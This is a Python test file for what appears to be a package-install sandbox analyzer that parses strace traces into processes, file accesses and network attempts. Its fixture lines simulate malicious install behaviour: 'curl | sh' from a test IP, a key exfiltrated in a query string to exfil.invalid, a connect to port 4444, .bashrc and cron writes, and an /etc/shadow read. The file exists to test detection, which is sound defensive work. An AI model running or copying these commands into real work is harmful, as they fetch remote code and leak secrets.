"""From recorded traces to what the package did: processes, files, network intent."""

from __future__ import annotations

from pathlib import Path

from packguard.analyzer.dynamic.activity import Activity, ActivityBuilder, TraceScope
from packguard.analyzer.dynamic.strace import parse_lines

TRACES = Path(__file__).parent / "traces"
FIXTURES = Path(__file__).parents[1] / "rules"


def build(lines: list[str], scope: TraceScope | None = None) -> Activity:
    builder = ActivityBuilder(scope)
    for event in parse_lines(lines):
        builder.add(event)
    return builder.finish()


def fixture(path: str) -> list[str]:
    return (FIXTURES / f"{path}.strace.fixture").read_text().splitlines()


def test_pip_install_processes_are_all_tooling_below_the_build_hook() -> None:
    lines = (TRACES / "pip-install-sdist.strace").read_text().splitlines()
    activity = build(lines, TraceScope(tooling_depth=2, host_programs=r"python[0-9.]*"))
    runs = [(run.program, run.depth, run.ok, run.tooling) for run in activity.processes]
    assert runs[0] == ("python", 0, True, True)
    assert ("lsb_release", 1, False, True) in runs  # execvp over $PATH: one failed attempt
    assert ("uname", 1, True, True) in runs
    assert all(tooling for *_, tooling in runs)


def test_children_of_the_host_are_the_packages_and_siblings_of_tooling_are_not() -> None:
    lines = [
        '1 execve("/v/bin/python", ["python", "-m", "pip"], 0x1 /* 1 vars */) = 0',
        "1 vfork() = 2",
        '2 execve("/usr/bin/uname", ["uname", "-rs"], 0x1 /* 1 vars */) = 0',
        "2 vfork() = 3",
        '3 execve("/usr/bin/tr", ["tr", "a", "b"], 0x1 /* 1 vars */) = 0',
        "1 vfork() = 4",
        '4 execve("/v/bin/python", ["python", "-c", "shim"], 0x1 /* 1 vars */) = 0',
        "4 vfork() = 5",
        '5 execve("/bin/sh", ["sh", "-c", "curl x | sh"], 0x1 /* 1 vars */) = 0',
        '4 execve("/bin/sh", ["sh"], 0x1 /* 1 vars */) = 0',
    ]
    activity = build(lines, TraceScope(tooling_depth=2, host_programs=r"python[0-9.]*"))
    spawned = {run.command: not run.tooling for run in activity.processes}
    assert spawned == {
        "python -m pip": False,
        "uname -rs": False,
        "tr a b": False,  # started by tooling that is not a host
        "python -c shim": False,
        "sh -c 'curl x | sh'": True,
        "sh": True,  # the host exec'd something else in its own pid
    }


def test_curl_pipe_sh_records_argv_and_stub_path() -> None:
    activity = build(fixture("dynamic-spawn-network-tool/match/postinstall-curl-pipe-sh"))
    curl = next(run for run in activity.processes if run.program == "curl")
    assert curl.argv == ("curl", "-fsSL", "http://203.0.113.7/install.sh")
    assert curl.path == "/sandbox/scratch/stubs/curl" and curl.ok


def test_files_read_written_and_failed_with_resolved_paths() -> None:
    activity = build(fixture("dynamic-write-outside-package/match/home-and-etc-writes"))
    files = {(f.path, f.access, f.ok, f.errno) for f in activity.files}
    assert ("/sandbox/scratch/home/.bashrc", "write", True, None) in files
    assert ("/etc/cron.d/update", "write", False, "EROFS") in files
    assert ("/sandbox/scratch/pkg/build.log", "write", True, None) in files
    # makedirs(exist_ok=True) bumping into existing parents is not a write.
    assert not any(f.path == "/etc/cron.d" for f in activity.files)


def test_relative_paths_resolve_against_the_dirfd_decoration() -> None:
    lines = [
        '1 openat(AT_FDCWD</sandbox/scratch/pkg>, "../home/.npmrc", O_RDONLY) = -1 EACCES (x)',
        '1 unlinkat(5</tmp/build>, "old.txt", 0) = 0',
        '1 renameat2(AT_FDCWD</w>, "a", AT_FDCWD</w>, "b", 0) = 0',
    ]
    activity = build(lines)
    assert [(f.path, f.access) for f in activity.files] == [
        ("/sandbox/scratch/home/.npmrc", "read"),
        ("/tmp/build/old.txt", "delete"),
        ("/w/a", "delete"),
        ("/w/b", "write"),
    ]


def test_quiet_prefixes_are_counted_not_kept() -> None:
    lines = [
        '1 openat(AT_FDCWD</w>, "/usr/lib/python3.11/os.py", O_RDONLY) = 3</usr/lib/os.py>',
        '1 openat(AT_FDCWD</w>, "/etc/shadow", O_RDONLY) = -1 EACCES (Permission denied)',
    ]
    activity = build(lines, TraceScope(quiet_prefixes=("/usr/lib/",)))
    assert [f.path for f in activity.files] == ["/etc/shadow"]
    assert activity.quiet_reads == 1


def test_network_attempts_dns_names_and_http_request_from_payloads() -> None:
    activity = build(fixture("dynamic-bait-sent/match/key-in-query-string"))
    assert {(d.name, d.qtype) for d in activity.dns} >= {("exfil.invalid", "A")}
    (http,) = activity.http
    assert http.request.request_line == "GET /collect?k=AKIAO6B2A2UBZEXAMPLE HTTP/1.1"
    assert (http.request.host, http.port) == ("exfil.invalid", 80)
    # The resolver's own socket is DNS, not a network attempt; nscd's unix socket is noise.
    assert [str(n.destination) for n in activity.network] == ["127.0.0.1:80"]


def test_connect_to_hard_coded_address_and_ipv6_and_unix() -> None:
    lines = [
        "1 connect(3<socket:[1]>, {sa_family=AF_INET, sin_port=htons(4444), "
        'sin_addr=inet_addr("203.0.113.5")}, 16) = -1 ENETUNREACH (Network is unreachable)',
        "1 connect(4<socket:[2]>, {sa_family=AF_INET6, sin6_port=htons(443), "
        'sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:db8::1", &sin6_addr), '
        "sin6_scope_id=0}, 28) = -1 ENETUNREACH (x)",
        '1 connect(5<socket:[3]>, {sa_family=AF_UNIX, sun_path="/var/run/docker.sock"}, 110) '
        "= -1 ENOENT (x)",
        '1 connect(6<socket:[4]>, {sa_family=AF_UNIX, sun_path="/var/run/nscd/socket"}, 110) '
        "= -1 ENOENT (x)",
        "1 bind(7<socket:[5]>, {sa_family=AF_INET6, sin6_port=htons(0), sin6_flowinfo=htonl(0), "
        'inet_pton(AF_INET6, "::1", &sin6_addr), sin6_scope_id=0}, 28) = 0',
    ]
    destinations = [(n.destination.family, str(n.destination), n.ok) for n in build(lines).network]
    assert destinations == [
        ("inet", "203.0.113.5:4444", False),
        ("inet6", "[2001:db8::1]:443", False),
        ("unix", "/var/run/docker.sock", False),
    ]


def test_sendto_with_explicit_destination_is_an_attempt_and_its_dns_is_parsed() -> None:
    query = "\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4leak\\7invalid\\0\\0\\1\\0\\1"
    lines = [
        f'1 sendto(3<socket:[9]>, "{query}", 30, 0, {{sa_family=AF_INET, sin_port=htons(53), '
        'sin_addr=inet_addr("198.51.100.53")}, 16) = 30'
    ]
    activity = build(lines)
    assert [str(n.destination) for n in activity.network] == ["198.51.100.53:53"]
    assert [d.name for d in activity.dns] == ["leak.invalid"]


def test_dropped_file_run_is_marked() -> None:
    activity = build(fixture("dynamic-run-dropped-file/match/writes-then-runs-payload"))
    payload = next(run for run in activity.processes if run.path.endswith("/payload"))
    assert payload.dropped
    assert not any(run.dropped for run in activity.processes if run is not payload)


def test_lists_are_capped() -> None:
    lines = [f'1 openat(AT_FDCWD</w>, "/data/{n}", O_WRONLY|O_CREAT, 0644) = 3' for n in range(30)]
    activity = build(lines, TraceScope(max_events=10))
    assert len(activity.files) == 10
    assert activity.overflow == 20
